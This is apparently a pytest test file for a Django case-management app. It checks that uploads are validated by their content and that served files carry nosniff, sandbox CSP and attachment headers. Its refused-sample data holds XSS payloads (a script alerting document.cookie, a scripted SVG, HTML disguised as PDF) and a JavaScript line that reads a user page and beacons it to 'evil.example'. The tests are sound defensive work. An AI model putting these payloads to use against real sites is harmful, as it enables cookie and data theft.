"""Safe files: uploads are checked by their content, and every file goes out as something a browser will not run.

Upload: the admin's case document form (the way a case document's file enters today) refuses HTML, SVG,
script and HTML disguised as PDF with a Norwegian message next to the file field, and saves nothing; a real
PDF, PNG and DOCX are stored under a random name. Serving: every file response (case documents, minutes,
notice and case PDFs, annual report PDF and CSV) carries attachment-or-PDF, nosniff and the sandbox CSP,
with the content type taken from the bytes; an exempt file is not cached.
"""
import io
import re
import struct
import zipfile
import zlib
from datetime import date
from html.parser import HTMLParser

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from guardian.shortcuts import assign_perm
from pypdf import PdfWriter

from bodies.models import Side
from cases.models import CaseDocument
from common import files
from members.models import Membership
from members.services import membership_create
from tests.factories import CaseFactory, PersonFactory, UserFactory

pytestmark = pytest.mark.django_db

SANDBOX = "sandbox; default-src 'none'"
STORED_NAME = re.compile(r"^cases/\d{4}/[0-9a-f]{32}\.(pdf|png|docx|xlsx|odt|jpg)$")


# -- sample files ------------------------------------------------------------------------------------


def a_pdf():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b"")


def a_docx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr("docProps/app.xml", '<?xml version="1.0"?><Properties/>')
        archive.writestr("docProps/core.xml", '<?xml version="1.0"?><coreProperties/>')
        archive.writestr("customXml/item1.xml", "<x/>")
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return out.getvalue()


def an_odt():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"fetch('/mine/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t));"

REFUSED = {
    "side.html": HTML,
    "tegning.svg": SVG,
    "plain.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    "skript.js": JS,
    "forkledd.pdf": HTML,  # HTML named .pdf
    "forkledd-med-pdf-tekst.pdf": b"<html>%PDF-1.4 <script>alert(1)</script></html>",
    "notat.txt": b"Bare tekst",
}


# -- the check itself ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_html_svg_script_and_disguised_files_are_refused(name):
    with pytest.raises(Exception) as error:
        files.check_upload(SimpleUploadedFile(name, REFUSED[name]))
    assert "Filtypen er ikke tillatt" in " ".join(error.value.messages)


@pytest.mark.parametrize("name, content", [("bilde.pdf", a_png()), ("rapport.html", a_pdf()), ("rapport", a_pdf()),
                                           ("notat.xlsx", a_docx())])
def test_the_extension_must_agree_with_the_content(name, content):
    with pytest.raises(Exception) as error:
        files.check_upload(SimpleUploadedFile(name, content))
    text = " ".join(error.value.messages)
    assert "Filnavnet" in text and "endelse" in text


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1024
    with pytest.raises(Exception) as error:
        files.check_upload(SimpleUploadedFile("stor.pdf", a_pdf() + b"\n%" + b"x" * 2048))
    assert "Filen er for stor" in " ".join(error.value.messages) and "1 kB" in " ".join(error.value.messages)


@pytest.mark.parametrize("name, content, mime", [
    ("Rapport.PDF", a_pdf(), "application/pdf"),
    ("bilde.png", a_png(), "image/png"),
    ("notat.docx", a_docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("notat.odt", an_odt(), "application/vnd.oasis.opendocument.text"),
])
def test_allowed_types_pass_and_get_a_random_name(name, content, mime):
    upload = SimpleUploadedFile(name, content)
    assert files.check_upload(upload).mime == mime
    files.clean_upload(upload)
    assert re.fullmatch(r"[0-9a-f]{32}\." + name.rsplit(".", 1)[1].lower(), upload.name)
    assert upload.read() == content  # the check reads the bytes but leaves the file whole


# -- upload through the admin's case document form ----------------------------------------------------


class _FormScraper(HTMLParser):
    """The values a browser would send for the admin change form (inputs, selects, textareas)."""

    def __init__(self):
        super().__init__()
        self.data, self._select, self._textarea, self._in_form = {}, None, None, False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and a.get("id", "").endswith("_form"):
            self._in_form = True
        if not self._in_form:
            return
        name = a.get("name")
        if tag == "input" and name and a.get("type") not in ("submit", "button", "file", "image"):
            if a.get("type") in ("checkbox", "radio"):
                if "checked" in a:
                    self.data.setdefault(name, []).append(a.get("value", "on"))
            else:
                self.data.setdefault(name, []).append(a.get("value") or "")
        elif tag == "select" and name:
            self._select = name
            self.data.setdefault(name, [])
        elif tag == "option" and self._select and "selected" in a:
            self.data[self._select].append(a.get("value", ""))
        elif tag == "textarea" and name:
            self._textarea = name
            self.data[name] = [""]

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "form":
            self._in_form = False

    def handle_data(self, data):
        if self._textarea:
            self.data[self._textarea][0] += data


def admin_upload(client, case, filename, content):
    url = reverse("admin:cases_case_change", args=[case.pk])
    page = client.get(url)
    assert page.status_code == 200
    scraper = _FormScraper()
    scraper.feed(page.content.decode())
    data = {key: values if len(values) != 1 else values[0] for key, values in scraper.data.items() if values != []}
    data.update({
        "documents-TOTAL_FORMS": "1", "documents-INITIAL_FORMS": "0",
        "documents-0-title": "Vedlegg fra kommunen", "documents-0-legal_basis": "", "documents-0-case": str(case.pk),
        "documents-0-file": SimpleUploadedFile(filename, content),
    })
    data.pop("documents-0-exempt", None)
    data.pop("_saveasnew", None)
    return client.post(url, data)


@pytest.fixture
def case(db):
    return CaseFactory()


@pytest.mark.parametrize("name", ["side.html", "tegning.svg", "skript.js", "forkledd.pdf"])
def test_admin_refuses_html_svg_js_and_disguised_pdf_next_to_the_file_field(client, admin_user, case, name):
    client.force_login(admin_user)
    response = admin_upload(client, case, name, REFUSED[name])
    assert response.status_code == 200  # the form again, not a redirect
    html = response.content.decode()
    assert "Filtypen er ikke tillatt" in html
    errors = response.context["inline_admin_formsets"][1].formset.forms[0].errors
    assert "file" in errors and "Filtypen er ikke tillatt" in errors["file"][0]
    assert not CaseDocument.objects.filter(case=case).exists()


@pytest.mark.parametrize("name, content", [("Rapport.pdf", a_pdf()), ("kart.png", a_png()), ("notat.docx", a_docx())])
def test_admin_accepts_pdf_png_docx_under_an_unguessable_name(client, admin_user, case, name, content, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(admin_user)
    response = admin_upload(client, case, name, content)
    assert response.status_code == 302, response.context and [f.errors for f in response.context["inline_admin_formsets"][1].formset.forms]
    document = CaseDocument.objects.get(case=case)
    assert STORED_NAME.match(document.file.name), document.file.name
    assert name.rsplit(".", 1)[0].lower() not in document.file.name.lower()
    with document.file.open("rb") as handle:
        assert handle.read() == content


def test_two_uploads_of_the_same_file_get_different_names(client, admin_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(admin_user)
    first, second = CaseFactory(), CaseFactory()
    for case in (first, second):
        assert admin_upload(client, case, "rapport.pdf", a_pdf()).status_code == 302
    names = set(CaseDocument.objects.values_list("file", flat=True))
    assert len(names) == 2


# -- serving --------------------------------------------------------------------------------------------


def assert_safe(response, *, inline_pdf=True):
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX
    disposition = response["Content-Disposition"]
    if response["Content-Type"] == "application/pdf" and inline_pdf:
        assert disposition.startswith(("inline", "attachment"))
    else:
        assert disposition.startswith("attachment"), (response["Content-Type"], disposition)


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def public_document(client, scene, document):
    return client.get(reverse("public:document", kwargs={"slug": scene["partnership"].slug, "document_pk": document.pk}))


def add_document(scene, title, name, content, **fields):
    document = CaseDocument.objects.create(case=scene["decided"], title=title, **fields)
    document.file.save(name, ContentFile(content))
    return document


def test_public_pdf_document_inline_with_the_type_from_its_bytes(client, scene):
    pdf = a_pdf()
    document = add_document(scene, "Årsrapport 2025", "a1b2.bin", pdf)
    response = public_document(client, scene, document)
    assert_safe(response)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline")
    assert 'filename="arsrapport-2025.pdf"' in response["Content-Disposition"]
    assert body_of(response) == pdf


def test_a_stored_html_file_named_pdf_goes_out_as_a_download_of_unknown_type(client, scene):
    """A file stored before the upload check (or by other means) is never served as HTML."""
    document = add_document(scene, "Gammel fil", "gammel.pdf", HTML)
    response = public_document(client, scene, document)
    assert_safe(response)
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert "text/html" not in response["Content-Type"]


def test_a_png_and_a_docx_are_attachments_with_their_detected_type(client, scene):
    png = public_document(client, scene, add_document(scene, "Kart", "kart.png", a_png()))
    assert_safe(png)
    assert png["Content-Type"] == "image/png" and png["Content-Disposition"].startswith("attachment")
    assert 'filename="kart.png"' in png["Content-Disposition"]
    docx = public_document(client, scene, add_document(scene, "Notat", "notat.docx", a_docx()))
    assert_safe(docx)
    assert docx["Content-Type"] == files.ALLOWED_TYPES["docx"]


def member_of(body):
    staff = UserFactory()
    person = PersonFactory(user=UserFactory())
    membership_create(body=body, person=person, role=Membership.Role.MEMBER, side=Side.MUNICIPAL, term_start=date(2020, 1, 1), by=staff)
    return person.user


def test_member_document_view_is_safe_and_an_exempt_file_is_not_cached(client, scene):
    client.force_login(member_of(scene["su"]))
    exempt = client.get(reverse("member:document", kwargs={"document_pk": scene["exempt_doc"].pk}))
    assert_safe(exempt)
    assert exempt["Cache-Control"] == "private, no-store"
    assert exempt["Content-Type"] == "application/octet-stream"  # the stored file is plain text: not on the list
    assert "pasientopplysninger" not in exempt["Content-Disposition"]  # named from the title, not the stored name
    open_doc = client.get(reverse("member:document", kwargs={"document_pk": scene["open_doc"].pk}))
    assert_safe(open_doc)
    assert "no-store" not in open_doc.get("Cache-Control", "")


def test_public_notice_and_minutes_pdfs_are_safe(client, scene):
    slug = scene["partnership"].slug
    for name in ("notice_pdf", "minutes_pdf"):
        response = client.get(reverse(f"public:{name}", kwargs={"slug": slug, "meeting_pk": scene["held"].pk}))
        assert_safe(response)
        assert response["Content-Type"] == "application/pdf"


def test_secretariat_pdfs_are_safe_attachments(client, scene):
    user = UserFactory()
    assign_perm("bodies.manage_partnership", user, scene["partnership"])
    client.force_login(user)
    urls = [reverse("meetings:notice_pdf", kwargs={"meeting_pk": scene["held"].pk}),
            reverse("meetings:minutes_pdf", kwargs={"meeting_pk": scene["held"].pk}),
            reverse("meetings:case_presentation_pdf", kwargs={"case_pk": scene["decided"].pk})]
    for url in urls:
        response = client.get(url)
        assert_safe(response, inline_pdf=False)
        assert response["Content-Type"] == "application/pdf", url


def test_annual_report_pdf_and_csv_are_safe(client, scene):
    user = UserFactory()
    assign_perm("bodies.manage_partnership", user, scene["partnership"])
    client.force_login(user)
    year = timezone.localdate().year
    kwargs = {"slug": scene["partnership"].slug, "year": year}
    pdf = client.get(reverse("reports:annual_report_pdf", kwargs=kwargs))
    assert_safe(pdf)
    assert pdf["Content-Type"] == "application/pdf"
    csv = client.get(reverse("reports:annual_report_csv", kwargs=kwargs))
    assert_safe(csv)
    assert csv["Content-Type"].startswith("text/csv")


def test_djangos_csp_middleware_keeps_the_file_policy_and_pages_keep_theirs(client, scene):
    page = client.get(reverse("public:case", kwargs={"slug": scene["partnership"].slug, "case_pk": scene["decided"].pk}))
    assert "sandbox" not in page["Content-Security-Policy"] and "script-src" in page["Content-Security-Policy"]
    response = public_document(client, scene, scene["open_doc"])
    assert response["Content-Security-Policy"] == SANDBOX



def test_a_file_missing_from_storage_answers_404(client, scene):
    document = add_document(scene, "Borte", "borte.pdf", a_pdf())
    document.file.storage.delete(document.file.name)
    assert public_document(client, scene, document).status_code == 404
